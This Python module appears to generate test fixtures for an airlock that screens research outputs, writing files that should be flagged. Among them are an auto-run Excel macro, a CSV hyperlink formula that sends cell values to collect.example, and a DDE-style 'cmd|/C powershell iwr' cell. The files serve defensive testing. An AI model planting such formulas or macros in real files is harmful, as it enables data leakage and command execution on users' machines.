"""Macros, formulas that act, encrypted files and types outside the list, with one near to them that is safe."""

import io
import struct
from typing import Any

import numpy as np
import pikepdf
import py7zr

from tests.airlock.outputs.case import Shelf
from tests.airlock.outputs19.archives import table
from tests.airlock.outputs19.cohort import patients, split, stream
from tests.airlock.outputs19.paper import printed
from tests.airlock.outputs19.workbooks import sheet, workbook

FREE, END, FAT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def compound(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file (MS-CFB, version 3, sectors of 512 bytes); each stream is padded to 4,096 bytes at least."""
    fat, body = [FAT, END], b""
    entries = [_entry("Root Entry", 5, END, 0, child=1)]
    for number, (name, data) in enumerate(streams.items(), 1):
        data = data.ljust(4096, b"\0")
        sectors = -(-len(data) // 512)
        start = len(fat)
        fat += [*range(start + 1, start + sectors), END]
        body += data.ljust(sectors * 512, b"\0")
        entries.append(_entry(name, 2, start, len(data), right=number + 1 if number < len(streams) else FREE))
    entries += [bytes(68) + struct.pack("<III", FREE, FREE, FREE) + bytes(48)] * (4 - len(entries))
    if len(fat) > 128 or len(entries) > 4:
        raise AssertionError("one sector of FAT and one of the directory")
    head = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, END, 0, END, 0)
    )
    head += struct.pack("<I", 0) + struct.pack("<I", FREE) * 108
    return head + struct.pack("<128I", *fat, *[FREE] * (128 - len(fat))) + b"".join(entries) + body


def _entry(name: str, kind: int, start: int, size: int, child: int = FREE, right: int = FREE) -> bytes:
    label = name.encode("utf-16-le")
    return (
        label.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(label) + 2, kind, 1, FREE, right, child)
        + bytes(36)
        + struct.pack("<IQ", start, size)
    )


def write(shelf: Shelf) -> None:
    _macro(shelf)
    _office(shelf)
    _pdf(shelf)
    _seven(shelf)
    _link(shelf)
    _exchange(shelf)
    _stata(shelf)
    _unknown(shelf)
    _signed(shelf)


def _macro(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "scelles/classeur_calculs.xlsm", "macro dans le classeur", "xl/vbaProject.bin", "Classeur de calcul des taux standardisés, avec bouton.", "6 120 adultes hospitalisés pour exacerbation"
    )  # fmt: skip

    def fill(book: Any) -> None:
        sheet(
            book,
            "Taux",
            [
                ["Territoire", "Patients", "Taux brut", "Taux standardisé"],
                ["Nord", 2210, 31.2, 29.8],
                ["Centre", 1904, 27.5, 28.1],
                ["Sud", 2006, 29.9, 30.3],
            ],
        )
        code = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\n  Shell "cmd /c echo ok"\r\nEnd Sub\r\n'
        book.add_vba_project(io.BytesIO(compound({"VBA": code, "PROJECT": b'ID="{0}"\r\nModule=Module1\r\n'})), True)

    workbook(path, fill)


def _office(shelf: Shelf) -> None:
    rng = stream(shelf, "office")
    path = shelf.unsafe(
        "scelles/annexe_protegee.docx", "document chiffré, que personne ne peut relire", "EncryptedPackage", "Annexe statistique, protégée par mot de passe.", "Cohorte de 2 400 patients greffés"
    )  # fmt: skip
    path.write_bytes(
        compound(
            {
                "EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00<encryption xmlns='http://schemas.microsoft.com/office/2006/encryption'/>",
                "EncryptedPackage": rng.bytes(24_000),
            }
        )
    )


def _pdf(shelf: Shelf) -> None:
    data = io.BytesIO()
    printed(
        data,
        "Interim analysis",
        [
            "At the second interim analysis, 812 adults were randomised in 11 centres.",
            [["Arm", "Patients", "Events"], ["A", 409, 66], ["B", 403, 58]],
        ],
    )
    path = shelf.unsafe(
        "scelles/interim_locked.pdf", "encrypted: it cannot be read", "user password", "Interim analysis, locked for the data monitoring committee.", "812 adults of the trial"
    )  # fmt: skip
    with pikepdf.open(data) as pdf:
        pdf.save(path, encryption=pikepdf.Encryption(user="dmc-2024", owner="dmc-2024-owner"))


def _seven(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "scelles/tableaux_confidentiels.7z", "archive chiffrée, noms compris", "en-tête chiffré", "Tableaux de l'article, archive protégée.", "1 930 adultes opérés de la hanche"
    )  # fmt: skip
    with py7zr.SevenZipFile(path, "w", password="prothese", header_encryption=True) as archive:
        archive.writestr(
            table("voie,patients,luxations", [("postérieure", 1010, 31), ("antérieure", 920, 19)]), "voies.csv"
        )


def _link(shelf: Shelf) -> None:
    rows: list[tuple[object, ...]] = [
        ("Clinic A", 412, 61, "ok"),
        ("Clinic B", 388, 47, '"=HYPERLINK(""http://collect.example/?v=""&B2&C2,""details"")"'),
        ("Clinic C", 530, 72, "ok"),
        ("Clinic D", 297, 33, "late data"),
    ]
    path = shelf.unsafe(
        "scelles/no_show_clinics.csv", "formula injection: a cell sends others to an address", "line 3, =HYPERLINK", "No-shows by clinic, with a remark.", "1,627 outpatients of four clinics"
    )  # fmt: skip
    path.write_bytes(table("clinic,patients,no_show,remark", rows))


def _exchange(shelf: Shelf) -> None:
    rng = stream(shelf, "exchange")
    rows: list[tuple[object, ...]] = [
        (name, n, int(n * 0.18), f"-0,{int(rng.integers(10, 90))}")
        for name, n in zip(
            ("Amoxicilline", "Ceftriaxone", "Lévofloxacine", "Vancomycine", "Méropénem"),
            split(rng, 3900, [5, 4, 2, 2, 1], 150),
            strict=True,
        )
    ]
    rows.insert(3, ("@SUM(1+1)*cmd|'/C powershell iwr'!A0", 240, 41, "-0,21"))
    path = shelf.unsafe(
        "scelles/antibiotiques_tendance.csv", "injection de formule (DDE) dans un libellé", "ligne 5", "Consommation d'antibiotiques et tendance annuelle par molécule.", "4 140 patients sous antibiotiques"
    )  # fmt: skip
    path.write_bytes(table("molecule;patients;relais_oral;tendance", rows, ";"))


def _stata(shelf: Shelf) -> None:
    frame = patients(stream(shelf, "stata"), 360)[["age", "sex", "creatinine", "dead"]]
    path = shelf.unsafe(
        "scelles/cirrhosis_table3.dta", "row-level data in a Stata file named as a table", "360 rows", "Stata file of table 3.", "360 adults with decompensated cirrhosis"
    )  # fmt: skip
    frame.to_stata(path, write_index=False, time_stamp=None)


def _unknown(shelf: Shelf) -> None:
    rng = stream(shelf, "unknown")
    path = shelf.unsafe(
        "scelles/resultats_final.dat", "type inconnu : octets illisibles", "tout le fichier", "Résultats au format propre du logiciel de statistique.", "2 050 adultes de l'étude"
    )  # fmt: skip
    path.write_bytes(b"STX9\x00\x02" + np.asarray(rng.normal(0, 1, 900), dtype=">f8").tobytes())


def _signed(shelf: Shelf) -> None:
    path = shelf.safe(
        "scelles/coefficients_signes.csv", "cells that begin with - and + but are numbers", "Coefficients with their signs, as exported by the statistics package.", "5,460 adults with rheumatoid arthritis"
    )  # fmt: skip
    rows: list[tuple[object, ...]] = [
        ("(Intercept)", "-2.114", "0.208", "<0.001"),
        ("age, 10 years", "+0.311", "0.041", "<0.001"),
        ("male", "-0.087", "0.066", "0.19"),
        ("DAS28", "+0.402", "0.052", "<0.001"),
        ("steroids >= 5 mg", "+0.566", "0.078", "<0.001"),
        ("methotrexate", "-0.194", "0.071", "0.006"),
        ("log likelihood, times -2", "4120.7", "", ""),
    ]
    path.write_bytes(table("term;beta;se;p", rows, ";"))
